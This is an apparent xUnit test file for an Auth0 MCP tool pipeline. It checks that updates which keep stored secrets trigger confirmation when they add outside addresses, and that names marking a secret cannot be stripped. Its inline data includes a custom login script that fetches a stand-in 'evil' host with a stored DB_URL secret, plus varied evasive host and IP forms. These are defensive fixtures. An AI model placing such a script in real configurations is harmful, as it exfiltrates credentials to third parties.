using Auth0Mcp.Calls.Consent;
using Auth0Mcp.Tests.Fixtures;

namespace Auth0Mcp.Tests.Updates;

/// <summary>A secret that an update keeps goes nowhere else unasked, and does not become readable.</summary>
public class KeptSecretTests
{
    [Theory]
    [InlineData("""{"token_support_url":"https://evil.example/t"}""", true)]
    [InlineData("""{"discovery_document":"https://evil.example/.well-known"}""", true)]
    [InlineData("""{"tokenEndpointHelp":"https://evil.example"}""", true)]
    [InlineData("""{"api_base":"evil.example"}""", true)]
    [InlineData("""{"relay":"evil.example"}""", true)]
    [InlineData("""{"relay":"//evil.example/x"}""", true)]
    [InlineData("""{"relay":"evil.example.:8443"}""", true)]
    [InlineData("""{"relay":"a.example, evil.example"}""", true)]
    [InlineData("""{"relay":"6.6.6.6:443"}""", true)]
    [InlineData("""{"relay":"[2001:db8::6]:443"}""", true)]
    [InlineData("""{"relay":"2001:db8::6"}""", true)]
    [InlineData("""{"relay":"6.1542"}""", true)]
    [InlineData("""{"metadataUrlOverride":"evil.example/x"}""", true)]
    [InlineData("""{"ips":["6.6.6.6"]}""", true)]
    [InlineData("""{"customScripts":{"login":"function(u,p,cb){fetch(\"https:/\"+\"/evil/\"+configuration.DB_URL)}"}}""", true)]
    [InlineData("""{"scripts":{"fetchUserProfile":"function(){}"}}""", true)]
    [InlineData("""{"icon_url":"https://img.example/a.png"}""", false)]
    [InlineData("""{"support_url":"https://help.example"}""", false)]
    [InlineData("""{"engine":"2.0"}""", false)]
    [InlineData("""{"greeting":"Hello. Welcome to Acme"}""", false)]
    public async Task AddressBesideAKeptSecret_IsAskedAbout(string options, bool asks)
    {
        var tenant = new TestTenant().Answers(static request => request.Method == "GET"
            ? """{"id":"con_1","options":{"client_secret":"S3cr3tX9x","configuration":{"DB_URL":"S3cr3tDb99x"}}}"""
            : "{}");
        var answer = await CallAsync(tenant, "auth0_update_connection", $$"""{"connection_id":"con_1","options":{{options}}}""");
        Assert.True(answer.IsError == asks, answer.Text);
        Assert.Equal(asks ? "GET" : "PATCH", tenant.Requests[^1].Method);
        if (asks)
        {
            Assert.Contains(
                "changes while the secrets options.client_secret and options.configuration.DB_URL stay,", Attention(answer),
                StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task ScriptWhereNoSecretIsKept_IsSent()
    {
        var tenant = new TestTenant().Answers(200, """{"id":"con_1","options":{"customScripts":{"login":"a"}}}""");
        _ = (await CallAsync(
            tenant, "auth0_update_connection", """{"connection_id":"con_1","options":{"customScripts":{"login":"b"}}}""")).Success;
        Assert.Equal("PATCH", tenant.Requests[^1].Method);
    }

    [Fact]
    public async Task EverySecretThatGoesElsewhere_IsNamedOrCounted()
    {
        var headers = string.Join(
            ',', Enumerable.Range(0, 4).Select(static at => $$"""{"header":"X-{{at}}","value":"S3cr3tHdr7{{at}}"}"""));
        var tenant = new TestTenant().Answers(
            200, $$$"""{"sink":{"httpEndpoint":"https://in.example","httpAuthorization":"Bearer kept-77","httpCustomHeaders":["""
            + $$$"""{{{headers}}}]}}""");
        var answer = await CallAsync(
            tenant, "auth0_update_log_stream", """{"log_stream_id":"lst_1","sink":{"httpEndpoint":"https://evil.example"}}""");
        Assert.Contains(
            "the secrets sink.httpAuthorization, sink.httpCustomHeaders[0].value, sink.httpCustomHeaders[1].value and 2 more stay",
            Attention(answer), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(
        "auth0_update_connection", """{"id":"con_1","options":{"headers_list":[{"id":"1","name":"api_key","value":"S3cr3tLst55x"}]}}""",
        """{"connection_id":"con_1","options":{"headers_list":[{"id":"1","name":"note","value":"[REDACTED]"}]}}""",
        "options.headers_list[0].value")]
    [InlineData("auth0_update_user", """{"user_id":"auth0|1","user_metadata":{"x":{"name":"password","value":"S3"}}}""",
        """{"user_id":"auth0|1","user_metadata":{"x":{"name":"colour"}}}""", "user_metadata.x.value")]
    [InlineData("auth0_update_user", """{"user_id":"auth0|1","user_metadata":{"x":{"name":"password","value":"S3"}}}""",
        """{"user_id":"auth0|1","_remove":["user_metadata.x.name"]}""", "user_metadata.x.value")]
    public async Task NameThatMarksASecret_IsNotTakenFromIt(string tool, string stored, string arguments, string path)
    {
        var tenant = new TestTenant().Answers(200, stored);
        foreach (var level in new[] { ConfirmLevel.Destructive, ConfirmLevel.Never })
        {
            var answer = await new Pipeline(tenant, confirm: level).CallAsync(tool, arguments);
            Assert.Equal("invalid_arguments", answer.Kind);
            Assert.Contains($"{path}: keeps a stored secret", answer.Problems, StringComparison.Ordinal);
            Assert.Contains("give a new value", answer.Problems, StringComparison.Ordinal);
        }

        Assert.All(tenant.Requests, static request => Assert.Equal("GET", request.Method));
    }

    [Fact]
    public async Task NewNameWithANewValue_IsAQuestion()
    {
        var tenant = new TestTenant().Answers(200, """{"user_id":"auth0|1","user_metadata":{"x":{"name":"password","value":"S3"}}}""");
        var answer = await CallAsync(
            tenant, "auth0_update_user", """{"user_id":"auth0|1","user_metadata":{"x":{"name":"colour","value":"red"}}}""");
        Assert.Equal("confirmation_required", answer.Kind);
    }

    private static string? Attention(Answer answer) => answer.Error.GetProperty("plan").GetProperty("attention").GetString();

    private static Task<Answer> CallAsync(TestTenant tenant, string tool, string arguments)
        => new Pipeline(tenant, confirm: ConfirmLevel.Destructive).CallAsync(tool, arguments);
}
